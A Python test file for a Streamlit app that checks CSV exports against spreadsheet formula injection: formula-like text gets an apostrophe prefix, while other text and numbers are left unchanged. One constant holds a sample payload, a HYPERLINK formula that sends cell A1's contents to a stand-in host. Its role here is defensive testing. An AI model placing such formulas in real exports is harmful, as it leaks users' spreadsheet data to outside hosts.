"""What is downloaded for a spreadsheet holds no formula, whatever the texts in it are, and loses nothing."""

from __future__ import annotations

import csv
import tomllib
from io import StringIO

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from pages.components.spreadsheet import csv_of, without_formula
from tests.conftest import ROOT

LINK = '=HYPERLINK("http://elsewhere.test/?"&A1;"open")'


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", '"=', "' =", " \u00a0=", "`@", "\n="]
)
def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe(start: str) -> None:
    assert without_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "C++", "C# - .NET", "a=b", "me@home", "–", "'quoted'", "Node.js; Go", "1-2"])
def test_any_other_text_is_as_it_was(text: str) -> None:
    assert without_formula(text) == text


def test_a_part_that_some_spreadsheet_takes_for_a_cell_is_none_either() -> None:
    assert without_formula("Go; =1+1;-x") == "Go;' =1+1;'-x"
    assert without_formula("Go\n=1+1") == "Go\n'=1+1"


def test_heads_are_texts_too_and_numbers_stay_numbers() -> None:
    written = csv_of(pd.DataFrame({LINK: ["Go", LINK], "Fit": [-0.5, None], "Runs": [1, -2]}))
    assert list(csv.reader(StringIO(written))) == [
        [f"'{LINK}", "Fit", "Runs"],
        ["Go", "-0.5", "1"],
        [f"'{LINK}", "", "-2"],
    ]


def _page() -> None:
    import pandas as pd

    from pages.components.listing import as_text

    as_text(pd.DataFrame({"Skill": ["=1+1"], "Id": [7]}), "Model calls", ["Skill"])


def test_a_table_on_a_canvas_has_a_file_of_ours_and_no_other() -> None:
    (button,) = AppTest.from_function(_page).run().get("download_button")
    assert button.proto.label == "CSV"
    client = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))["client"]
    assert client["disableDataExport"] is True
